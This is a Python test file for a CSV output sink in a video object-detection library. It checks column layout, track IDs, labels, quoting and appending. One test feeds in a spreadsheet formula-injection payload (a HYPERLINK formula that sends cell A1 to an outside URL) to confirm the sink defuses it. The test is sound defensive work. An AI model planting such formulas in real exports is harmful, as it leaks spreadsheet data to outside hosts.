from __future__ import annotations

import csv
import io

from sightline.sinks.csv_ import COLUMNS, CsvSink
from sightline.types import Label, StreamInfo


def table(*observations) -> list[dict[str, str]]:
    out = io.StringIO()
    sink = CsvSink(out)
    sink.open(StreamInfo("cam", 96, 64))
    sink.open(StreamInfo("other", 96, 64))
    for observation in observations:
        sink.write(observation)
    sink.close()
    out.seek(0)
    return list(csv.DictReader(out))


def test_rows(observe):
    boxes = [[1, 2.5, 30.126, 40, 0.91, 2, 3], [0, 0, 1, 1, 0.5, 0, 4]]
    first, second = table(observe("cam", 12, 0.48, boxes))
    assert tuple(first) == COLUMNS
    assert list(first.values()) == [
        "cam", "12", "0.48", "3", "2", "car", "0.91", "1.0", "2.5", "30.13", "40.0", "0", "", "", "",
    ]  # fmt: skip
    assert second["track_id"] == "4"


def test_frames_without_objects_have_no_row(observe):
    assert table(observe("cam", 0), observe("cam", 1)) == []


def test_untracked_objects_have_an_empty_track_id(observe):
    (row,) = table(observe(boxes=[[1, 2, 3, 4, 0.5, 2, 0]], tracked=False))
    assert row["track_id"] == ""


def test_an_object_that_is_not_tracked_has_no_labels_of_another(observe):
    labels = {0: (Label("colour", "red", 0.5),)}
    one, other = table(
        observe(boxes=[[1, 2, 3, 4, 0.5, 2, -1], [1, 2, 3, 4, 0.5, 2, 0]], labels=labels)
    )
    assert (one["track_id"], one["labels"]) == ("", "")
    assert (other["track_id"], other["labels"]) == ("0", "colour=red")


def test_names_with_commas_quotes_and_newlines_survive(observe):
    name = 'gate "A", north\nside'
    (row,) = table(observe(name, boxes=[[1, 2, 3, 4, 0.5, 2, 1]]))
    assert row["stream"] == name


def test_names_are_no_formulas(observe):
    """A stream's name may come from a client, and who opens the table in a spreadsheet runs it."""
    name = '=HYPERLINK("http://x/?"&A1)'
    (row,) = table(observe(name, boxes=[[-1, 2, 3, 4, 0.5, 2, 1]]))
    assert row["stream"] == f"'{name}"
    assert row["x1"] == "-1.0"  # numbers stay numbers


def test_a_file_is_gone_on_with(observe, tmp_path):
    path = tmp_path / "out.csv"
    for index in range(3):
        sink = CsvSink(path, append=True)
        sink.open(StreamInfo("cam", 96, 64))
        sink.write(observe("cam", index, boxes=[[1, 2, 3, 4, 0.5, 2, 0]]))
        sink.close()
    with path.open() as file:
        assert [row["frame"] for row in csv.DictReader(file)] == ["0", "1", "2"]
